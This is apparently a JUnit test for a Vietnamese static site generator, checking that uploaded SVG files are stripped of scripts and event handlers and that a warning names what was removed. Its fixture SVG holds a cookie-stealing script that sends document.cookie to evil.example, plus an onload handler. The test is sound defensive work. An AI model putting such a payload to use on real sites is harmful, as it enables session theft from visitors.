package vn.gazette;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 11, defect 8: SVG files were published as they were, scripts and event handlers included, so an SVG opened
 * directly ran script on the site's origin. They are cleaned, with a warning naming what was removed.
 */
class SvgFilesTest {

    @TempDir
    Path dir;

    @Test
    void anSvgWithAScriptAndAnEventHandlerIsPublishedWithoutThemAndTheRemovalIsNamed() {
        MiniSite site = MiniSite.of(dir, "-- site.yaml --\ntitle: Thử\nbaseUrl: https://example.gov.vn/\n"
                + "-- articles/2023/a.md --\n---\ntitle: \"A\"\ndate: 2023-09-22\n---\n![Sơ đồ](so-do.svg)\n"
                + "-- articles/2023/a/so-do.svg --\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('/x')\">"
                + "<script>document.location='https://evil.example/?'+document.cookie</script>"
                + "<rect width=\"10\" height=\"10\"/></svg>\n");

        BuildResult result = site.build();

        assertThat(site.messages(result)).containsExactly("content/articles/2023/a/so-do.svg: warning: removed from "
                + "this SVG before publishing it: <script> (1), onload= (1). An SVG opened on its own runs its scripts on "
                + "the site's address, so scripts, event handlers, javascript: addresses and files of other sites are "
                + "taken out; save the drawing without them to publish it as it is");
        assertThat(site.read("articles/2023/a/so-do.svg")).doesNotContain("script", "onload", "evil")
                .contains("<rect width=\"10\" height=\"10\"");
    }
}
